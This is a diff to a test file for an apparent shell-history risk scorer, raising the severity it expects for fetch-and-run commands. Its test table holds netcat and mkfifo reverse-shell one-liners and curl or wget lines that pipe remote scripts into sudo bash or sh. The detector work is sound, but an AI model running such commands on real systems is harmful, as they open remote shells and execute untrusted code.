@@ -86,8 +86,9 @@ test.each([
   ['nc -e /bin/sh 203.0.113.5 4444', 'high'],
   ['nc 203.0.113.5 4444 -e bash', 'high'],
   ['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f', 'high'],
-  ['curl -s http://203.0.113.5/x.sh | sudo bash', 'medium'],
-  ['wget -qO- http://[2001:db8::5]:8080/x | sh', 'medium'],
+  ['curl -s http://203.0.113.5/x.sh | sudo bash', 'high'],
+  ['curl -s http://192.168.7.5/x.sh | sudo bash', 'medium'],
+  ['wget -qO- http://[2001:db8::5]:8080/x | sh', 'high'],
 ])('%s is %s, under a stamp of another command too, and cited by its own line', (command, severity) => {
   const { findings, verdict } = judgeHistory(`#1700000000\n./build.sh\nls\n${command}\n`);
   expect(findings.map(({ severity: gravity, evidence: [cited] }) => [gravity, cited?.locator])).toEqual([
